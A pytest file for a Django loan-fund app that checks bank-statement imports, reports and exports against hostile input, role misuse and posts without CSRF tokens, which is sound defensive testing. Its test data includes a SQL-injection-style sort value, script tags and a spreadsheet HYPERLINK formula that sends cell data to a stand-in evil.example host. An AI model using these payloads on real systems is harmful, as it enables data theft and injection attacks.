"""Hostile and careless requests to the bank statement, report, export and home pages: bad
dates, numbers and strings in the query and the forms, bad files, others' export jobs, the
wrong roles, GET on POST-only actions and posts without CSRF. None is a 500; bad input is a
field's message and changes nothing."""

import datetime as dt
import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from fund import roles
from fund.models import Borrower
from loans.models import BankStatement, ExportJob, ReconciledPeriod, StatementLine, StatementMapping
from loans.models.exports import ExportState
from tests.loans.conftest import START, move_to
from tests.loans.test_arrears_pages import build_portfolio, reader  # noqa: F401 (fixtures)
from tests.loans.test_bank import LAYOUT, credit, layout, paid, statement  # noqa: F401 (fixtures)
from tests.loans.test_exports import ask, long_reports  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

BAD_DATES = ["0001-01-01", "9999-12-31", "2026-02-30", "x" * 5000, "-1", "2026-13-01", "\x00"]
BAD_NUMBERS = ["99999999999999999999999999", "-5", "0", "1e9", "NaN", "\x00"]
# The only formulas an export writes: its totals, sums over its rows.
TOTAL_FORMULA = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)")
REPORTS = ["aging", "arrears", "classification", "portfolio", "trend"]


@pytest.fixture
def portfolio(staff, bank):
    return build_portfolio(staff, bank)


def named_file(content: bytes, name: str) -> io.BytesIO:
    file = io.BytesIO(content)
    file.name = name
    return file


@pytest.fixture
def accountant(client, staff):
    client.force_login(staff["accountant"])
    return client


# Reports ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", REPORTS)
@pytest.mark.parametrize("value", BAD_DATES)
@pytest.mark.parametrize("suffix", ["report", "xlsx"])
def test_report_dates_out_of_range_or_malformed_are_a_field_message(accountant, name, value, suffix):
    response = accountant.get(reverse(f"loans:{name}_{suffix}"), {"as_of": value})
    assert response.status_code in (200, 400)
    assert "as_of" in response.context["form"].errors
    assert not ExportJob.objects.exists()


@pytest.mark.parametrize(
    "query",
    [
        {"start": "0001-01-01"},
        {"start": "9999-12-31"},
        *({"days": value} for value in BAD_NUMBERS),
        {"product": "99999999999999999999999"},
        {"product": "-1"},
        {"officer": "abc"},
        {"borrower_type": "<script>"},
        {"area": "x" * 10_000},
    ],
)
def test_portfolio_filters_hostile_values(accountant, query):
    for url in (reverse("loans:portfolio_report"), reverse("loans:portfolio_xlsx")):
        response = accountant.get(url, query)
        assert response.status_code in (200, 400), (url, query)
        if response["Content-Type"].startswith("text/html"):
            assert response.context["form"].errors, query


@pytest.mark.parametrize(
    "query",
    [
        {"sort": "pk; drop table"},
        {"sort": "-" * 500},
        {"page": "99999999999999999999999999"},
        {"page": "-1"},
        {"page": "\x00"},
        {"area": "%_%"},
    ],
)
def test_arrears_list_hostile_sort_and_page(accountant, query):
    response = accountant.get(reverse("loans:arrears_report"), query)
    assert response.status_code in (200, 400)


@pytest.mark.parametrize("role", [roles.FUND_OFFICER, roles.COOP_USER, roles.APPRAISER])
def test_non_accountants_cannot_reach_accountants_pages(client, fund, bank, user_with_role, role):
    client.force_login(user_with_role(role))
    for url in (
        reverse("loans:bank_accounts"),
        reverse("loans:bank_lines", args=[bank.code]),
        reverse("loans:bank_import", args=[bank.code]),
        reverse("loans:bank_mapping", args=[bank.code]),
        *(
            # Officers read the ledger (`ledger.roles`): its trial balances are theirs too.
            (reverse("ledger:period_trial_balance"), reverse("ledger:period_trial_balance_export"))
            if role != roles.FUND_OFFICER
            else ()
        ),
    ):
        assert client.get(url).status_code == 403, (role, url)
        assert client.post(url).status_code == 403, (role, url)


@pytest.mark.parametrize("role", [roles.COOP_USER])
def test_coop_users_cannot_see_reports_or_exports(client, fund, user_with_role, role):
    client.force_login(user_with_role(role))
    for name in REPORTS:
        assert client.get(reverse(f"loans:{name}_report")).status_code == 403
        assert client.get(reverse(f"loans:{name}_xlsx")).status_code == 403
    assert client.get(reverse("loans:exports")).status_code == 403


@pytest.mark.parametrize(
    "query",
    [
        {"date_from": "0001-01-01", "date_to": "9999-12-31"},
        {"date_from": "0001-01-01"},
        {"date_to": "0001-01-01"},
        {"date_from": "9999-12-31", "date_to": "9999-12-31"},
        {"date_from": "2026-02-30"},
        {"date_from": "x" * 5000},
        {"include_zero": "\x00"},
        {"date_from": "2026-03-01", "date_to": "2026-01-01"},
    ],
)
def test_period_trial_balance_hostile_dates(accountant, query):
    for url in (reverse("ledger:period_trial_balance"), reverse("ledger:period_trial_balance_export")):
        response = accountant.get(url, query)
        assert response.status_code in (200, 400), (url, query)


# Exports ---------------------------------------------------------------------------------------


def test_another_users_export_job_is_a_404(
    portfolio,  # noqa: F811
    ask,  # noqa: F811
    long_reports,  # noqa: F811
    client,
    user_with_role,
):
    ask()
    job = ExportJob.objects.get()
    assert job.state == ExportState.DONE
    client.force_login(user_with_role(roles.ACCOUNTANT))
    for name in ("export", "export_progress", "export_download"):
        for pk in (job.pk, 999999999):
            assert client.get(reverse(f"loans:{name}", args=[pk])).status_code == 404, (name, pk)
        assert client.get(f"/loans/reports/exports/{2**63}/").status_code == 404
    for query in ({"page": "99999999999"}, {"page": "-3"}, {"page": "\x00"}, {"page": "x" * 3000}):
        assert client.get(reverse("loans:exports"), query).status_code == 200
    client.force_login(user_with_role(roles.FUND_OFFICER))
    assert client.get(reverse("loans:export_download", args=[job.pk])).status_code in (403, 404)


# Bank ------------------------------------------------------------------------------------------


def post_file(client, bank, content: bytes, name: str):
    return client.post(reverse("loans:bank_import", args=[bank.code]), {"file": named_file(content, name)})


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"", "empty.xlsx"),
        (b"", "empty.csv"),
        (b"\xff\xfe\x00\x01\x80\x81" * 100, "binary.csv"),
        (b"\xff\xfe\x00\x01\x80\x81" * 100, "binary.xlsx"),
        (b"PK\x03\x04garbage", "broken.xlsx"),
        ("Ngày GD;Nội dung\n".encode("cp1258", errors="replace") + b"\xa9\xfe;\xff\n", "latin.csv"),
        (b"a,b,c\n1,2,3\n", "wrong-columns.csv"),
        (b"\x00" * 4000, "nul.csv"),
        (b"just text", "no-extension"),
        (b"<html></html>", "page.html"),
    ],
)
def test_bad_statement_files_are_refused_and_keep_nothing(accountant, bank, layout, content, name):  # noqa: F811
    response = post_file(accountant, bank, content, name)
    assert response.status_code == 400
    form, report = response.context["form"], response.context["report"]
    assert form.errors or (report is not None and report.errors)
    assert not BankStatement.objects.exists() and not StatementLine.objects.exists()


def test_wrong_column_mapping_is_reported_per_column(accountant, bank, layout):  # noqa: F811
    file = statement(credit(1, 1000, "X"), header=["A", "B", "C", "D", "E", "F", "G"])
    response = post_file(accountant, bank, file.getvalue(), "saoke.xlsx")
    assert response.status_code == 400 and response.context["report"].errors
    assert not StatementLine.objects.exists()


def test_import_without_a_file_or_by_get(accountant, bank, layout):  # noqa: F811
    url = reverse("loans:bank_import", args=[bank.code])
    response = accountant.post(url, {"csrfmiddlewaretoken": "x"})  # a browser's post, no file chosen
    assert response.status_code == 400 and "file" in response.context["form"].errors
    assert accountant.get(url, {"file": "x" * 5000}).status_code == 200
    assert not BankStatement.objects.exists()


@pytest.mark.parametrize(
    "change",
    [
        {"header_row": "99999999999999999999"},
        {"header_row": "-1"},
        {"header_row": "0"},
        {"match_days": "99999999999999999999"},
        {"match_days": "-3"},
        {"date_format": "x" * 5000},
        {"date_format": "%Q%Q"},
        {"date_format": ""},
        {"description_column": "x" * 5000},
        {"credit_column": "", "debit_column": "", "amount_column": ""},
        {"booking_date_column": "\x00"},
    ],
)
def test_bad_statement_layout_is_a_field_message(accountant, bank, change):
    response = accountant.post(reverse("loans:bank_mapping", args=[bank.code]), {**LAYOUT, **change})
    assert response.status_code in (200, 400)
    assert response.context["form"].errors, change
    assert not StatementMapping.objects.exists()


@pytest.mark.parametrize(
    "query",
    [
        {"status": "<script>"},
        {"first": "0001-01-01", "last": "9999-12-31"},
        {"first": "2026-02-30"},
        {"first": "9999-12-31", "last": "0001-01-01"},
        {"first": "x" * 5000},
    ],
)
def test_bank_lines_hostile_filters(accountant, bank, layout, query):  # noqa: F811
    assert accountant.get(reverse("loans:bank_lines", args=[bank.code]), query).status_code == 200


@pytest.mark.parametrize(
    "data",
    [
        {"first_date": "0001-01-01", "last_date": "9999-12-31"},
        {"first_date": "9999-12-31", "last_date": "0001-01-01"},
        {"first_date": "2026-02-30", "last_date": "2026-03-01"},
        {"first_date": "", "last_date": ""},
        {"first_date": "x" * 5000, "last_date": "\x00"},
    ],
)
def test_bad_reconciled_periods_change_nothing(accountant, bank, layout, data):  # noqa: F811
    response = accountant.post(reverse("loans:bank_lines", args=[bank.code]), data)
    assert response.status_code == 400 and response.context["period_form"].errors
    assert not ReconciledPeriod.objects.exists()


def test_unknown_account_or_line_is_a_404(accountant, bank, layout):  # noqa: F811
    for url in (
        reverse("loans:bank_lines", args=["nope"]),
        reverse("loans:bank_lines", args=["x" * 3000]),
        reverse("loans:bank_import", args=["9999"]),
        reverse("loans:bank_mapping", args=["9999"]),
    ):
        assert accountant.get(url).status_code == 404, url
    for name in ("bank_line_confirm", "bank_line_reject", "bank_line_repayment", "bank_period_reopen"):
        assert accountant.post(reverse(f"loans:{name}", args=[999999999])).status_code == 404, name
        assert accountant.post(f"/loans/bank/lines/{2**63}/confirm/").status_code == 404


def test_post_only_actions_refuse_get(accountant, paid, bank, layout):  # noqa: F811
    post_file(accountant, bank, statement(credit(11, 5_000_000, "NOP TIEN")).getvalue(), "s.xlsx")
    line = StatementLine.objects.get()
    before = line.status
    for url in (
        reverse("loans:bank_line_confirm", args=[line.pk]),
        reverse("loans:bank_line_reject", args=[line.pk]),
        reverse("loans:bank_match_again", args=[bank.code]),
    ):
        assert accountant.get(url).status_code == 405, url
    line.refresh_from_db()
    assert line.status == before


def test_posts_without_csrf_are_refused(staff, paid, bank, layout):  # noqa: F811
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(staff["accountant"])
    assert strict.post(reverse("loans:bank_mapping", args=[bank.code]), LAYOUT).status_code == 403
    file = named_file(statement(credit(11, 5_000_000, "NOP TIEN")).getvalue(), "s.xlsx")
    assert strict.post(reverse("loans:bank_import", args=[bank.code]), {"file": file}).status_code == 403
    assert not BankStatement.objects.exists()


def test_line_repayment_hostile_form(accountant, loan, staff, bank, layout):  # noqa: F811
    move_to(START + dt.timedelta(days=30))
    post_file(accountant, bank, statement(credit(20, "3.000.000", "HTX TRA NO")).getvalue(), "s.xlsx")
    line = StatementLine.objects.get()
    url = reverse("loans:bank_line_repayment", args=[line.pk])
    for data in (
        {"contract": "x" * 5000, "prepayment_mode": "lower_installments"},
        {"contract": "HĐ-01/2026", "household": "9" * 500, "prepayment_mode": "lower_installments"},
        {"contract": "HĐ-01/2026", "prepayment_mode": "<script>"},
        {"contract": "\x00", "prepayment_mode": "lower_installments"},
        {"csrfmiddlewaretoken": "x"},
    ):
        response = accountant.post(url, data)
        assert response.status_code == 400 and response.context["form"].errors, data
    line.refresh_from_db()
    assert line.status == StatementLine.Status.UNMATCHED


def test_formula_text_is_kept_as_text_and_written_back_as_text(accountant, staff, bank, portfolio):  # noqa: F811
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    csv_layout = {**LAYOUT, "header_row": 1}
    assert accountant.post(reverse("loans:bank_mapping", args=[bank.code]), csv_layout).status_code == 302
    header = ";".join(LAYOUT[f"{name}_column"] for name in ("booking_date", "value_date", "description"))
    rows = f"{header};Số tham chiếu;Ghi có;Ghi nợ;Số dư\n01/03/2026;01/03/2026;{hostile};FT9;1000;;\n"
    response = post_file(accountant, bank, rows.encode(), "saoke.csv")
    assert response.status_code == 200, response.context["report"].errors
    assert StatementLine.objects.get().description == hostile
    page = accountant.get(reverse("loans:bank_lines", args=[bank.code])).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example" in page and 'HYPERLINK("http' not in page
    # Text a user typed or imported comes back in a report's .xlsx as text, never a formula.
    Borrower.objects.filter(pk=portfolio[0].borrower_id).update(name=hostile)
    response = accountant.get(reverse("loans:arrears_xlsx"), {"as_of": "2026-03-31", "area": ""})
    book = load_workbook(io.BytesIO(response.content))
    values = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert hostile in [cell.value for cell in values]
    assert all(cell.data_type != "f" or TOTAL_FORMULA.fullmatch(cell.value) for cell in values)


# Home ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "role", [roles.COOP_USER, roles.FUND_OFFICER, roles.APPRAISER, roles.APPROVER, roles.ACCOUNTANT, None]
)
def test_home_page_for_each_role_and_hostile_query(client, fund, user_with_role, role):
    client.force_login(user_with_role(role) if role else user_with_role())
    for query in ({}, {"as_of": "9999-12-31", "page": "-1"}, {"x": "\x00" * 10}):
        assert client.get("/", query).status_code == 200


def test_home_page_for_a_coop_user_without_a_borrower(client, fund, user_with_role):
    client.force_login(user_with_role(roles.COOP_USER))
    assert client.get("/").status_code == 200


def test_home_page_before_the_fund_is_set_up(client, user_with_role, db):
    client.force_login(user_with_role(roles.ACCOUNTANT))
    assert client.get("/").status_code == 200


@pytest.mark.parametrize(
    "row",
    [
        ["31/12/9999", "31/12/9999", "X", "FT1", 1_000, None, None],
        ["01/02/2026", "31/12/9999", "X", "FT1", 1_000, None, None],
        ["30/02/2026", "30/02/2026", "X", "FT1", 1_000, None, None],
        ["01/02/2026", "01/02/2026", "X", "FT1", "99999999999999999999999999", None, None],
        ["01/02/2026", "01/02/2026", "X", "FT1", -1_000, None, None],
        ["01/02/2026", "01/02/2026", "X", "FT1", "1e30", None, None],
        ["01/02/2026", "01/02/2026", "X" * 100_000, "FT1", 1_000, None, None],
        ["01/02/2026", "01/02/2026", "X", "R" * 10_000, 1_000, None, None],
        ["01/02/2026", "01/02/2026", "X", "FT1", 1_000, None, "9" * 40],
        ["01/02/2026", "01/02/2026", "X", "FT1", 1_000, None, "-" + "9" * 19],
        ["x" * 5000, "01/02/2026", "X", "FT1", 1_000, None, None],
    ],
)
def test_bad_statement_rows_are_refused_row_by_row(staff, bank, layout, row, accountant):  # noqa: F811
    response = post_file(accountant, bank, statement(row).getvalue(), "saoke.xlsx")
    assert response.status_code == 400
    assert response.context["report"].errors
    assert not BankStatement.objects.exists() and not StatementLine.objects.exists()


def test_a_line_on_the_calendars_first_day_is_kept_unmatched(staff, bank, layout, accountant):  # noqa: F811
    """Matching widens a line's dates by the window: not past the calendar's first day."""
    response = post_file(
        accountant,
        bank,
        statement(["01/01/0001", "01/01/0001", "X", "FT1", 1_000, None, None]).getvalue(),
        "s.xlsx",
    )
    assert response.status_code == 200
    assert StatementLine.objects.get().status == StatementLine.Status.UNMATCHED


def test_match_again_and_line_actions_in_the_wrong_state(accountant, paid, bank):  # noqa: F811
    # No layout yet, no lines: matching again finds nothing and says so.
    response = accountant.post(reverse("loans:bank_match_again", args=[bank.code]), follow=True)
    assert response.status_code == 200
    accountant.post(reverse("loans:bank_mapping", args=[bank.code]), LAYOUT)
    post_file(
        accountant,
        bank,
        statement(credit(11, 5_000_000, "NOP TIEN"), credit(12, 7, "X")).getvalue(),
        "s.xlsx",
    )
    suggested, unmatched = StatementLine.objects.order_by("amount").reverse()
    assert unmatched.status == StatementLine.Status.UNMATCHED
    for name in ("bank_line_confirm", "bank_line_reject"):
        response = accountant.post(reverse(f"loans:{name}", args=[unmatched.pk]), follow=True)
        assert response.status_code == 200
        unmatched.refresh_from_db()
        assert unmatched.status == StatementLine.Status.UNMATCHED
    accountant.post(reverse("loans:bank_line_confirm", args=[suggested.pk]))
    suggested.refresh_from_db()
    assert suggested.status == StatementLine.Status.MATCHED
    # Confirmed twice, or recorded as a repayment once matched: refused, nothing changes.
    assert (
        accountant.post(reverse("loans:bank_line_confirm", args=[suggested.pk]), follow=True).status_code
        == 200
    )
    repayment = reverse("loans:bank_line_repayment", args=[suggested.pk])
    assert (
        accountant.post(
            repayment, {"contract": "HĐ-01/2026", "prepayment_mode": "lower_installments"}
        ).status_code
        == 404
    )
    suggested.refresh_from_db()
    assert suggested.status == StatementLine.Status.MATCHED


def test_header_only_oversized_and_misplaced_header_files(accountant, bank, layout, settings):  # noqa: F811
    header_only = statement()
    response = post_file(accountant, bank, header_only.getvalue(), "s.xlsx")
    assert response.status_code == 400
    settings.IMPORT_MAX_BYTES = 100
    response = post_file(accountant, bank, statement(credit(1, 1_000, "X")).getvalue(), "s.xlsx")
    assert response.status_code == 400 and "file" in response.context["form"].errors
    settings.IMPORT_MAX_BYTES = 10_000_000
    StatementMapping.objects.update(header_row=20)
    response = post_file(accountant, bank, statement(credit(1, 1_000, "X")).getvalue(), "s.xlsx")
    assert response.status_code == 400 and response.context["report"].errors
    assert not StatementLine.objects.exists()


def test_reopening_a_period_with_a_hostile_reason(accountant, paid, bank):  # noqa: F811
    accountant.post(reverse("loans:bank_mapping", args=[bank.code]), LAYOUT)
    post_file(accountant, bank, statement(credit(11, 5_000_000, "NOP TIEN")).getvalue(), "s.xlsx")
    accountant.post(reverse("loans:bank_line_confirm", args=[StatementLine.objects.get().pk]))
    accountant.post(
        reverse("loans:bank_lines", args=[bank.code]), {"first_date": "2026-01-01", "last_date": "2026-01-31"}
    )
    period = ReconciledPeriod.objects.get()
    url = reverse("loans:bank_period_reopen", args=[period.pk])
    for data in ({"reason": "x" * 100_000}, {"reason": "   "}, {"reason": "\x00"}):
        response = accountant.post(url, data)
        assert response.status_code in (200, 400) and response.context["form"].errors, data
    period.refresh_from_db()
    assert period.reopened_at is None
    assert accountant.post(url, {"reason": "Sai sót"}).status_code == 302
    assert accountant.post(url, {"reason": "again"}).status_code == 404


def test_an_export_job_of_hostile_filters_shows_and_writes_them_as_text(portfolio, ask, long_reports, reader):  # noqa: F811
    hostile = '=HYPERLINK("http://e.example")<script>'
    Borrower.objects.filter(pk=portfolio[0].borrower_id).update(district=hostile)
    ask({"as_of": "2026-03-31", "area": hostile})
    job = ExportJob.objects.get()
    assert job.state == ExportState.DONE
    page = reader.get(reverse("loans:export", args=[job.pk])).content.decode()
    assert "<script>" not in page and "&lt;script&gt;" in page
    progress = reader.get(reverse("loans:export_progress", args=[job.pk]))
    assert progress.status_code == 200 and "<script>" not in progress.content.decode()
    response = reader.get(reverse("loans:export_download", args=[job.pk]))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(hostile in str(cell.value) for cell in cells)
    assert all(cell.data_type != "f" or TOTAL_FORMULA.fullmatch(cell.value) for cell in cells)
    # A POST to the download or the progress changes nothing and is no 500.
    assert reader.post(reverse("loans:export_download", args=[job.pk])).status_code in (200, 405)
